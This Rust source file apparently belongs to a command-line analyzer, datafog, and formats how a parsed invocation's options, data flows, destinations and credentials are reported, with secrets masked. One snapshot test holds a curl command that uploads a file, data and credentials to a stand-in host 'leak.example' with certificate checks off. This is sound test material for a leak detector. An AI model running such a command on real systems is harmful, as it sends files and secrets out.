//! The normal form of an invocation, as `datafog explain` prints it.

use std::fmt::Write as _;

use datafog_core::{
    Carrier, ContentSource, Deliver, Destination, Flow, HostName, Invocation, Operand, OperandKind,
    Opt, Place, Reach, StdinUse, Void,
};

use crate::display::Mask;
use crate::redact::{self, Hidden};

/// Several lines that tell all of `invocation`, one fact a line, the fact's kind in front.
///
/// Values that are content or credentials are left out, and what `masks` cover is named, as in
/// [`crate::display()`]. Hosts, paths and messages are told as they are: whoever shows the form
/// takes out of them what was found in argv. The form is stable: tests compare it.
#[must_use]
pub fn normal_form(invocation: &Invocation, masks: &[(usize, Mask)]) -> String {
    let mut hidden = redact::hidden(invocation, usize::MAX);
    hidden.extend(masks.iter().map(|(argument, mask)| Hidden {
        place: Place { argument: *argument, span: mask.span },
        label: mask.label.clone(),
    }));
    hidden.sort_by_key(|hidden| (hidden.place.argument, hidden.place.span.start()));
    let mut form = Form { out: String::new(), hidden };
    let family = match invocation.family.as_str() {
        "" if invocation.known => String::new(),
        "" => " (no profile)".to_owned(),
        family => format!(" ({family})"),
    };
    form.line("program", &format!("{}{family}", escaped(invocation.program.as_bytes())));
    if !invocation.subcommand.is_empty() {
        form.line("command", &escaped(invocation.subcommand.join(" ").as_bytes()));
    }
    for option in &invocation.options {
        form.option(option);
    }
    for operand in &invocation.operands {
        form.operand(operand);
    }
    let flows: Vec<_> = invocation.flows.iter().map(Flow::name).collect();
    form.line("flow", if flows.is_empty() { "none".to_owned() } else { flows.join(", ") }.as_str());
    for destination in &invocation.destinations {
        form.line("goes to", &destination_line(destination));
    }
    for content in &invocation.contents {
        form.line("content", &content_line(content));
    }
    form.line("stdin", stdin_name(invocation.stdin));
    for unclear in &invocation.unclear {
        form.line("unclear", unclear);
    }
    form.out
}

struct Form {
    out: String,
    hidden: Vec<Hidden>,
}

impl Form {
    fn line(&mut self, kind: &str, text: &str) {
        // Writing to a string cannot fail.
        writeln!(self.out, "{kind:<8}  {text}").unwrap_or_default();
    }

    /// Bytes of an argument, hidden parts left out.
    fn shown(&self, text: &[u8], place: Option<Place>) -> String {
        let mut out = String::new();
        match place {
            Some(place) => {
                let from = self.hidden.partition_point(|it| it.place.argument < place.argument);
                let upto = self.hidden.partition_point(|it| it.place.argument <= place.argument);
                let parts = self.hidden.get(from..upto).unwrap_or_default();
                redact::write(&mut out, text, place.span.start(), parts, usize::MAX);
            }
            None => redact::replaced(&mut out, "", text.len()),
        }
        out
    }

    fn option(&mut self, option: &Opt) {
        let mut text = escaped(option.name.as_bytes());
        if let Some(value) = &option.value {
            text.push_str(" = ");
            text.push_str(&self.shown(value.as_encoded_bytes(), option.place));
        }
        self.line("option", &text);
    }

    fn operand(&mut self, operand: &Operand) {
        let text = self.shown(operand.text.as_encoded_bytes(), operand.place);
        let kind = kind_name(operand.kind);
        self.line("operand", &format!("{kind}  {text}  {}", operand.flow.name()));
    }
}

fn escaped(text: &[u8]) -> String {
    let mut out = String::new();
    redact::escape(&mut out, text, usize::MAX);
    out
}

/// `scheme://host[:port] reach[ void …]`.
pub(crate) fn destination_line(destination: &Destination) -> String {
    let host = match &destination.host {
        HostName::Deferred(source) => format!("‹{source}›"),
        HostName::Ip(std::net::IpAddr::V6(ip)) => format!("[{ip}]"),
        HostName::Ip(ip) => ip.to_string(),
        HostName::Name(name) => escaped(name.as_bytes()),
        HostName::Unknown => "?".to_owned(),
    };
    let port = destination.port.map_or_else(String::new, |port| format!(":{port}"));
    let reach = match destination.reach {
        Reach::Loopback => "loopback",
        Reach::Remote => "remote",
        Reach::Unknown => "unknown",
    };
    let voids: String =
        destination.voids.iter().map(|void| format!(" {}", void_name(void))).collect();
    format!("{}://{host}{port} {reach}{voids}", escaped(destination.scheme.as_bytes()))
}

fn void_name(void: &Void) -> String {
    match void {
        Void::Ambiguous => "ambiguous".to_owned(),
        Void::ConfigurationFile(file) => format!("file:{file}"),
        Void::ConnectsElsewhere(option) => format!("option:{option}"),
        Void::Environment(name) => format!("env:{name}"),
        Void::Insecure => "insecure".to_owned(),
        Void::Plaintext => "plaintext".to_owned(),
        Void::Proxy => "proxy".to_owned(),
        Void::Redirects => "redirects".to_owned(),
        Void::RedirectsTrusted => "redirects-trusted".to_owned(),
    }
}

/// `role carrier flow`; a file that is delivered as the judged bytes is marked.
pub(crate) fn content_line(content: &ContentSource) -> String {
    let carrier = match &content.carrier {
        Carrier::Argument(place) => format!("arg[{}]", place.argument),
        Carrier::File(path) => format!("file:{}", escaped(path.as_os_str().as_encoded_bytes())),
        Carrier::Inline(bytes) => format!("inline:{} bytes", bytes.len()),
        Carrier::Stdin => "stdin".to_owned(),
        Carrier::Untold(_) => "untold".to_owned(),
    };
    let handed = match content.deliver {
        Deliver::Handle if matches!(content.carrier, Carrier::File(_)) => " (handed over)",
        Deliver::Handle | Deliver::Path => "",
    };
    format!("{} {carrier} {}{handed}", escaped(content.role.as_bytes()), content.flow.name())
}

/// The name of an operand's kind, as profiles spell it.
pub(crate) const fn kind_name(kind: OperandKind) -> &'static str {
    match kind {
        OperandKind::Command => "command",
        OperandKind::Host => "host",
        OperandKind::Path => "path",
        OperandKind::Reference => "reference",
        OperandKind::Remote => "remote",
        OperandKind::RemotePath => "remote-path",
        OperandKind::Text => "text",
        OperandKind::Url => "url",
    }
}

/// The name of a use of standard input, as profiles spell it.
pub(crate) const fn stdin_name(stdin: StdinUse) -> &'static str {
    match stdin {
        StdinUse::Content => "content",
        StdinUse::Ignore => "ignore",
        StdinUse::Stream => "stream",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::world::World;
    use crate::{interpret, resolve};
    use std::ffi::OsString;

    fn explained(argv: &[&str], world: &World) -> String {
        let argv: Vec<OsString> = argv.iter().map(OsString::from).collect();
        let mut invocation = interpret(&argv, world);
        resolve(&mut invocation, world);
        normal_form(&invocation, &[])
    }

    #[test]
    fn a_call_with_everything_is_told_line_by_line() {
        let argv = [
            "curl",
            "-ksL",
            "-d",
            "key=value",
            "-T",
            "a.tgz",
            "-H",
            "X-Key: k",
            "-u",
            "me:pw",
            "--resolve",
            "leak.example:443:127.0.0.1",
            "https://leak.example/x?token=t",
            "--what",
        ];
        insta::assert_snapshot!(explained(&argv, &World::default()), @r"
        program   curl (http)
        option    --insecure
        option    --silent
        option    --location
        option    --data = ‹9 bytes›
        option    --upload-file = a.tgz
        option    --header = X-Key: ‹1 byte›
        option    --user = me:‹2 bytes›
        option    --resolve = leak.example:443:127.0.0.1
        option    --what
        operand   url  https://leak.example/x?‹7 bytes›  leaves
        flow      enters, leaves
        goes to   https://leak.example loopback option:--resolve insecure redirects ambiguous
        content   body arg[3] leaves
        content   body file:a.tgz leaves
        content   header:x-key arg[7] leaves
        content   credential arg[9] leaves
        content   url arg[12] leaves
        content   options untold leaves
        stdin     ignore
        unclear   option `--what` is not in the table
        ");
    }

    #[test]
    fn a_push_is_told_with_its_hosts() {
        let mut world = World::default();
        let answers = [
            ("git config --list -z", "remote.origin.url\nx\0"),
            ("git remote get-url --all --push origin", "git@github.com:a/b\n"),
        ];
        world.outputs.extend(answers.map(|(line, answer)| (line.to_owned(), answer.to_owned())));
        insta::assert_snapshot!(explained(&["git", "push", "-f", "origin", "main"], &world), @r"
        program   git (vcs)
        command   push
        option    --force
        operand   remote  origin  leaves
        operand   reference  main  leaves
        flow      destroys, leaves
        goes to   ssh://github.com remote
        stdin     ignore
        ");
    }

    #[test]
    fn an_unknown_command_is_told_as_such() {
        insta::assert_snapshot!(explained(&["frob", "--x", "y"], &World::default()), @r"
        program   frob (no profile)
        operand   text  --x  stays
        operand   text  ‹1 byte›  stays
        flow      none
        stdin     ignore
        ");
    }
}
